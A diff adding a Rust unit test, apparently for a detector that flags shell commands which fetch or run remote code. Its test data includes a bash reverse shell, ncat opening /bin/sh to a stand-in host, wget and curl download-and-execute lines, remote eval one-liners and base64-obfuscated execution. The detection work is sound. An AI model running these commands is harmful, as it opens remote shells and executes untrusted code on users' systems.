@@ -179,3 +179,34 @@ fn commands_inside_of_other_programs_s_111() {
     none("awk '{print $1}' x");
     none("node -e 'console.log(1)'");
 }
+
+#[test]
+fn whatever_is_not_written_in_the_command_is_data_s_111() {
+    for text in [
+        "bash -i >& /dev/tcp/192.0.2.1/99 0>&1",
+        "bash -c \"$(echo Y3VybA== | base64 -d)\"",
+        "source <(base64 -d <<< aGk=)",
+        "find . -name '*.sh' -exec sh {} \\;",
+        "xargs -I{} sh {} < list",
+        "ncat e.example 99 -e /bin/sh",
+        "busybox wget -O- https://e.example/x | busybox sh",
+        "cmd /c \"curl https://e.example/x.bat -o x.bat && x.bat\"",
+        "perl -MLWP::Simple -e 'getprint q(https://e.example)'",
+        "ruby -ropen-uri -e 'eval URI.open(q(https://e.example)).read'",
+        "cat <<EOF | bash\nnpx evil\nEOF",
+        "echo 'npx evil' | sh",
+    ] {
+        assert!(!fetches(text).is_empty(), "{text}");
+    }
+    for text in [
+        "find . -name '*.sh' -exec bash -n {} \\;",
+        "find . -name '*.md' -exec wc -l {} +",
+        "echo hello | cat",
+        "git ls-files | xargs grep x",
+        "bash \"$(dirname \"$0\")/x.sh\"",
+        "nc -z localhost 80",
+    ] {
+        none(text);
+    }
+    one("uv run --with x==1.0.0 python y.py", "uv run x==1.0.0 version");
+}
